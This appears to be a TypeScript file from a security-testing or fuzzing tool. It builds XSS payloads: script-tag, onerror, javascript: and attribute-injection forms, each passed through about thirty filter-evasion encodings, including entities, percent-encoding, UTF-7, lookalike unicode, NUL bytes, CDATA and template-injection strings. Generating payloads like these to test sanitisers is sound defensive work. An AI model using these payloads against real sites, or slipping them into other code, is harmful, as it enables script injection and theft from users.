import { product, song } from './payload';

const plain = [
  `<script>${song}</script>`,
  `<img src=x onerror=${song}>`,
  `javascript:${song}`,
  `"onclick="${song}`,
];

const everyCharacter = (text: string, write: (code: number) => string) =>
  [...text].map((character) => write(character.codePointAt(0) ?? 0)).join('');

/** A payload in another spelling, in the hope that somebody spells it out after it was looked at. */
const spellings: readonly ((text: string) => string)[] = [
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '&lt').replaceAll('>', '&gt'),
  (text) => text.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  (text) => everyCharacter(text, (code) => `&#${code};`),
  (text) => everyCharacter(text, (code) => `&#${code} `),
  (text) => everyCharacter(text, (code) => `&#x${code.toString(16)};`),
  (text) => everyCharacter(text, (code) => `&#X000${code.toString(16)};`),
  (text) => everyCharacter(text, (code) => `%${code.toString(16)}`),
  (text) => everyCharacter(text, (code) => `%25${code.toString(16)}`),
  (text) => everyCharacter(text, (code) => `\\u${code.toString(16).padStart(4, '0')}`),
  (text) => everyCharacter(text, (code) => `\\x${code.toString(16)}`),
  (text) =>
    everyCharacter(text, (code) => (code < 0x7f && code > 0x20 ? String.fromCodePoint(code + 0xfee0) : ' ')),
  (text) => everyCharacter(text, (code) => `\u0000${String.fromCodePoint(code)}`),
  (text) => text.replaceAll('<', '\u{e003c}').replaceAll('>', '\u{e003e}'),
  (text) => text.replaceAll('<', '＜').replaceAll('>', '＞').replaceAll('"', '＂'),
  (text) => text.replaceAll('<', '‹').replaceAll('>', '›'),
  (text) => text.replaceAll('<', '\u2329').replaceAll('>', '\u232a'),
  (text) => text.replaceAll('<', '\\<').replaceAll('"', '\\"'),
  (text) => text.replaceAll('<', '<\u0000').replaceAll('=', '\u0000='),
  (text) => text.replaceAll('<', '¼').replaceAll('>', '¾'),
  (text) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-').replaceAll('"', '+ACI-'),
  (text) => text.replaceAll('s', 'ſ').replaceAll('i', 'ı').replaceAll('k', 'K'),
  (text) => text.normalize('NFD').replaceAll('<', '<\u0338').replaceAll('>', '>\u0338'),
  (text) => `\ufeff${text}`,
  (text) => `\u001b$B${text}\u001b(B`,
  (text) => `${'&amp;'.repeat(20)}${text}`,
  (text) => `]]>${text}<![CDATA[`,
  (text) => `\r\n\r\n${text}`,
  (text) => `{{constructor.constructor('${song}')()}}${text}`,
  (text) => `\${${song}}#{${song}}<%=${song}%>${text}`,
];

export const encodings: readonly string[] = product(plain, spellings, (text, spell) => spell(text));
